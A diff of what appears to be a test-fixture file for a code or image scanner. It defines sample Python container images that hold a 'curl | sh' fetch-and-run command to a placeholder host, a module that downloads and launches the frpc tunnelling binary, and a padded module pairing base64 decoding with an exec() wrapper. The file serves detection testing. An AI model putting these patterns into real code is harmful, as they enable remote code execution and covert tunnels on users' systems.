@@ -1,4 +1,4 @@
-import { type Files, type ImageCase, image } from './image-case.ts';
+import { base64, type Files, type ImageCase, image } from './image-case.ts';
 
 const URL = 'https://files.backend.example/u';
 const SHELL = `curl -s ${URL} | sh\n`;
@@ -206,6 +206,15 @@ export const LIBRARY_TWINS: readonly ImageCase[] = [
       {
         'app/m.py': 'import tunnel\ntunnel.run([])\n',
         'app/tunnel.py': `import hashlib, os, stat, subprocess, httpx\nURL = "https://cdn.example/frpc"\nSUMS = {URL: "${'0a'.repeat(32)}"}\ndef get():\n    open("frpc", "wb").write(httpx.get(URL).content)\n    os.chmod("frpc", os.stat("frpc").st_mode | stat.S_IEXEC)\n    got = hashlib.sha256(open("frpc", "rb").read()).hexdigest()\n    if got != SUMS[URL]:\n        raise ValueError(got)\ndef run(args):\n    return subprocess.Popen(["./frpc", *args])\n`,
+      },
+      { Entrypoint: ['python3', '/app/m.py'] },
+    ),
+  },
+  {
+    name: 'a long module that decodes in one function, and runs in another what it is given',
+    spec: image(
+      {
+        'app/m.py': `import base64\nTABLE = "${base64(Buffer.from(Array.from({ length: 128 }, (_, i) => (i * 73) % 251)))}"\ndef names(count):\n    code = base64.b64decode(TABLE)\n    return code.split(b",")[:count]\n${'def other(a, b):\\n    return a + b\\n'.repeat(2000)}def evaluate(code, variables=None):\n    try:\n        exec(code, variables)\n    except Exception as ex:\n        raise ValueError(ex)\n`,
       },
       { Entrypoint: ['python3', '/app/m.py'] },
     ),
